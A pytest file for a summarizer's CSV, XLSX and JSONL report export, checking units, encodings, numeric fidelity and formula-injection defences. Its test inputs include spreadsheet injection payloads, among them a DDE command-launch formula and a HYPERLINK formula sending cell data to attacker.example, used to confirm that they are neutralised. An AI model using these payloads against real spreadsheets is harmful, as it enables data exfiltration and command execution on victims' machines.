"""Spreadsheets: numbers are numbers with their unit beside them, and no cell of an article is run as a formula."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from dataclasses import replace
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from summarizer.data import Article, Kind, Reading, Report
from summarizer.reports import Format, encode, render
from summarizer.reports.csv import quoted
from summarizer.reports.sheets import Cell, every
from tests import json_schema
from tests import report_records as records

SCHEMA: dict[str, Any] = json.loads((Path(__file__).parents[1] / "docs" / "report.schema.json").read_text("utf-8"))

CONTENTS: dict[str, Report | Reading] = {
    "summary": records.summary(),
    "verification": records.verification(),
    "figures": records.reading(),
}


def rows(content: Report | Reading) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(render(content, Format.CSV))))


def book(content: Report | Reading) -> dict[str, list[dict[str, Any]]]:
    opened = openpyxl.load_workbook(io.BytesIO(encode(content, Format.XLSX)))
    found = {}
    for page in opened.worksheets:
        titles, *lines = page.iter_rows(values_only=True)
        found[page.title] = [dict(zip(titles, line, strict=True)) for line in lines]
    return found


def test_a_deal_is_a_row_of_values_with_units_of_their_own() -> None:
    first, second = rows(records.summary())
    for title, said in {
        "Parties": "Nordsee (buyer); Ostkai | Sons (seller)",
        "Quantity": "15",
        "Quantity hedge": "at most",
        "Quantity, in words": "up to 15",
        "Parts": "4 × tugs",
        "Amount": "1080000000",
        "Amount unit": "EUR",
        "Amount hedge": "about",
        "Amount, in words": "about €1.08 billion",
        "Share": "",
        "Date": "XXXX-05-03",
        "Date, in words": "3 May",
        "Status": "agreement signed",
        "Flagged": "no",
        "Source sentences": "S1 S2",
        "German": "Die Reederei Nordsee kauft bis zu 15 Fähren und vier Schlepper. "
        "Der Auftrag ist rund 1,08 Milliarden Euro wert.",
    }.items():
        assert first[title] == said
    assert (second["Kind"], second["Flagged"], second["Amount"]) == ("other", "yes", "")


def test_a_finding_is_a_row_between_both_texts() -> None:
    found = rows(records.verification())
    assert [row["Verdict"] for row in found] == [
        "contradicted", "supported", "derived", "rounded", "misattributed", "left out", "left out", "name not found",
    ]  # fmt: skip
    assert found[0] == {
        "No.": "1", "Verdict": "contradicted", "Flagged": "yes", "Differs in": "value", "English": "up to 16",
        "Value": "16", "Unit": "ferries", "Where": "sentence 2",
        "English sentence": "The Nordsee shipping line buys up to 16 ferries and four tugs, 19 vessels in all.",
        "German": "bis zu 15", "German value": "15", "German unit": "Fähren", "Source sentences": "S1",
        "German sentence": "Die Reederei Nordsee kauft bis zu 15 Fähren und vier Schlepper.",
        "Why": "The source has bis zu 15.", "Confidence": "0.97",
    }  # fmt: skip
    assert found[2]["German"] == "bis zu 15; vier"
    assert found[2]["Why"] == "15 + 4 = 19."
    assert found[-1]["English"] == "Lisbon"


def test_a_range_has_its_bounds_apart() -> None:
    vague = replace(records.FERRIES, kind=Kind.VAGUE, value=None, low=Decimal(100), high=Decimal(9999))
    (row,) = rows(replace(records.reading(), figures=(vague,)))
    assert (row["Value"], row["From"], row["To"]) == ("", "100", "9999")


def test_a_file_for_excel_has_a_mark_of_its_encoding_and_a_pipe_has_none() -> None:
    data = encode(records.reading(), Format.CSV)
    assert data.startswith(b"\xef\xbb\xbfNo.,Figure,")
    assert data.count(b"\r\n") == data.count(b"\n") == 6
    piped = render(records.reading(), Format.CSV)
    assert piped.startswith("No.,Figure,")
    assert "\r" not in piped
    assert "Schlepper" in data.decode("utf-8-sig")


def test_a_workbook_has_a_sheet_for_each_table_and_numbers_are_numbers() -> None:
    found = book(records.summary())
    assert list(found) == ["Deals", "Findings", "Figures", "About"]
    assert found["Deals"][0]["Amount"] == 1_080_000_000
    assert found["Deals"][0]["Amount unit"] == "EUR"
    assert found["Findings"][0]["Confidence"] == 0.97
    assert [row["Value"] for row in found["Figures"]] == [15, 4, 1_080_000_000, 14, "XXXX-05-03"]
    told = {row["What"]: row["Said"] for row in found["About"]}
    assert told["Outcome"].startswith("FLAGGED: 2 of 5 figures")
    assert told["Written by"].startswith("small-1b")
    assert told["Note"] == "The model read 3 of the article's 4 sentences."  # the last of two
    assert list(book(records.verification())) == ["Findings", "Figures", "About"]
    assert list(book(records.reading())) == ["Figures"]


# What a spreadsheet would run, or might; the negatives are text that must stay as it is.
FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "＝1", "＋1",
    "－1", "＠x", '=HYPERLINK("https://attacker.example/?"&A1,"x")', "-5 Prozent", "\u200b=1", "\u00ad@x", "\ufeff=1",
]  # fmt: skip
HARMLESS = ["1=1", "a@example.org", "15", "§ 5", "'=1", "(=1)", "„=1“", "– Strich", "x\t=1"]


@pytest.mark.parametrize("words", FORMULAS)
def test_text_that_a_spreadsheet_would_run_is_quoted(words: str) -> None:
    assert quoted(words).startswith("'")
    told = replace(records.reading(), figures=(replace(records.FERRIES, surface=words),))
    assert rows(told)[0]["Figure"].startswith("'")


@pytest.mark.parametrize("words", HARMLESS)
def test_other_text_and_numbers_are_not_quoted(words: str) -> None:
    assert quoted(words) == words.replace("\t", " ")
    assert quoted(Decimal("-0.5")) == "-0.5"
    assert quoted(-5) == "-5"
    assert quoted(None) == ""


@pytest.mark.parametrize("words", [*FORMULAS, "https://attacker.example/", "mailto:x@y.z", "{=1}", "15", "\x00\x1b[2J"])
def test_a_workbook_holds_no_formula_and_no_link(words: str) -> None:
    report = records.summary()
    assert report.draft is not None
    deal = replace(records.DEALS[0], item=words, note=words)
    told = replace(
        report,
        article=replace(report.article, title=words, url=words, outlet=words),
        draft=replace(report.draft, deals=(deal,), notes=(words,)),
        deal_checks=(),
    )
    data = encode(told, Format.XLSX)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = archive.namelist()
        pages = "".join(archive.read(name).decode() for name in names if "worksheets/" in name)
    assert "<f>" not in pages
    assert "hyperlink" not in pages
    assert not any(name.startswith("xl/externalLinks") for name in names)
    opened = openpyxl.load_workbook(io.BytesIO(data))
    assert {cell.data_type for page in opened.worksheets for row in page.iter_rows() for cell in row} <= {"s", "n"}
    if words == "15":
        assert book(told)["Deals"][0]["Item"] == "15"


@given(st.text(max_size=40))
def test_no_cell_of_text_begins_like_a_formula(words: str) -> None:
    said = quoted(words)
    assert not said.lstrip().startswith(("=", "+", "-", "@"))
    assert said.isprintable() or not any(ord(char) < 32 for char in said)


@pytest.mark.parametrize("number", ["12345678901234567", "0.1234567890123456789", "1E+999999", "NaN", "Infinity"])
def test_a_number_that_excel_would_change_is_written_as_text(number: str) -> None:
    told = replace(records.reading(), figures=(replace(records.FERRIES, value=Decimal(number)),))
    assert book(told)["Figures"][0]["Value"] == number


@pytest.mark.parametrize("number", ["0.1", "-12.5", "1E+12", "123456789012345"])
def test_a_number_that_excel_keeps_is_a_number(number: str) -> None:
    told = replace(records.reading(), figures=(replace(records.FERRIES, value=Decimal(number)),))
    assert Decimal(str(book(told)["Figures"][0]["Value"])) == Decimal(number)


def test_a_cell_longer_than_excel_takes_is_cut_and_says_so() -> None:
    long = "Wort " * 10_000
    told = records.summary(article=Article(records.GERMAN, title=long))
    said = next(row["Said"] for row in book(told)["About"] if row["What"] == "Title")
    assert len(said) == 32_767
    assert said.endswith("…")


@pytest.mark.parametrize("name", CONTENTS)
def test_every_row_has_a_cell_for_every_column(name: str) -> None:
    for sheet in every(CONTENTS[name]):
        assert sheet.rows
        assert {len(row) for row in sheet.rows} == {len(sheet.columns)}
        kinds: set[type[Cell]] = {type(cell) for row in sheet.rows for cell in row}
        assert kinds <= {str, int, Decimal, type(None)}


@pytest.mark.parametrize(
    ("name", "key", "many"), [("summary", "deal", 2), ("verification", "finding", 7), ("figures", "figure", 5)]
)
def test_json_lines_keep_to_the_published_schema(name: str, key: str, many: int) -> None:
    lines = [json.loads(line) for line in render(CONTENTS[name], Format.JSONL).splitlines()]
    assert len(lines) == many
    for number, each in enumerate(lines, 1):
        assert list(json_schema.problems(each, SCHEMA, SCHEMA)) == []
        assert (each["document"], each["number"], each["origin"]) == (key, number, "fähren.txt")
        assert set(each) == {"schema_version", "document", "number", "origin", "title", "url", key}


@pytest.mark.parametrize("form", [Format.XLSX, Format.DOCX])
def test_a_file_says_nothing_of_when_it_was_written(form: Format) -> None:
    with zipfile.ZipFile(io.BytesIO(encode(records.summary(), form))) as file:
        assert {part.date_time[:3] for part in file.infolist()} == {(1980, 1, 1)}
        assert b"dcterms:" not in file.read("docProps/core.xml").partition(b"<dc:title>")[2]


def test_the_second_workbook_of_a_process_is_the_first() -> None:
    assert encode(records.summary(), Format.XLSX) == encode(records.summary(), Format.XLSX)


def test_all_letters_are_of_the_font_that_is_named() -> None:
    with zipfile.ZipFile(io.BytesIO(encode(records.summary(), Format.XLSX))) as file:
        styles = file.read("xl/styles.xml").decode()
    assert "<scheme" not in styles
    assert set(re.findall(r'<name val="([^"]*)"', styles)) == {"Arial"}
